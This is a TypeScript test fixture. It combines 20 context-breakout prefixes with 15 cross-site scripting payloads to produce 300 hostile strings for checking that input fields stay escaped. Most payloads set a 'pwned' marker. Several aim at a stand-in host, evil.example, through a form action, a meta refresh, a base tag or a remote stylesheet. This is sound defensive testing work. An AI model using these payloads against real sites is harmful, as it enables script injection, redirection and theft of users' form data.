/** Ways out of the place where typed text stands: text, attributes, scripts, comments, styles, templates. */
const breakouts = [
  '',
  '">',
  "'>",
  '`>',
  '</textarea>',
  '</title>',
  '</script>',
  '-->',
  '</style>',
  '</select></option>',
  '</noscript>',
  '{{',
  '${',
  '\\">',
  '\u2028',
  '</p></div>',
  '" ',
  "' ",
  '&quot;>',
  '%22%3E',
];

/** What would run, or be an element of its own, if it came out. `pwned` is looked for in the page. */
const payloads = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1" data-pwned>',
  '<svg onload="window.pwned=1" data-pwned></svg>',
  '<svg/onload=window.pwned=1//data-pwned>',
  '<iframe srcdoc="<script>parent.pwned=1</script>" data-pwned></iframe>',
  '<a href="javascript:window.pwned=1" data-pwned>x</a>',
  '<body onload=window.pwned=1>',
  '<details open ontoggle=window.pwned=1 data-pwned>',
  '<input autofocus onfocus=window.pwned=1 data-pwned>',
  '<math><mi//xlink:href="data:x,<script>window.pwned=1</script>" data-pwned>',
  'onmouseover=window.pwned=1 style=position:fixed;inset:0 data-pwned=',
  '<form action="https://evil.example" data-pwned><button>',
  '<meta http-equiv=refresh content="0;url=https://evil.example" data-pwned>',
  '<base href="https://evil.example/" data-pwned>',
  '<link rel=stylesheet href="https://evil.example/x.css" data-pwned>',
];

/** 300 texts that no field may let out of its place (reliability C14). */
export const hostileScripts: readonly string[] = breakouts.flatMap((breakout) =>
  payloads.map((payload) => `${breakout}${payload}`),
);
